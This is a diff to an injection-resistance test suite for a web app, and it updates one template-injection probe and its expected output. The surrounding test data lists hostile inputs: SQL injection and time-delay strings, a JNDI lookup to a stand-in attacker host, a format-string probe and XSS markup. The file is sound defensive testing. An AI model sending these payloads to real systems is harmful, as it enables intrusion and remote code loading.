@@ -28,7 +28,7 @@ STATEMENTS = (
     "%' OR 1=1 --",
     "\\'; SELECT pg_sleep(30); --",
     "${jndi:ldap://evil.example/a}",
-    "{{ 7 * 191 }}",
+    "{{ 7411 * 9187 }}",
     "%(name)s %s {0.__class__}",
 )
 MARKUP = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>"
@@ -71,7 +71,7 @@ def test_no_field_is_a_statement(running: RunningDesk, statement: str) -> None:
     browser.post("/messages/send-again", {"message": statement})
     noted = browser.post(f"/leads/{kept.ref}/notes", {"body": statement})
     assert " ".join(statement.split()) in words(noted)  # as it was typed, and not worked out
-    assert "1337" not in noted.text
+    assert "68084857" not in noted.text
     assert running.visitor().sign_in(statement, statement, statement).status_code == 401
 
     with running.engine.connect() as connection:
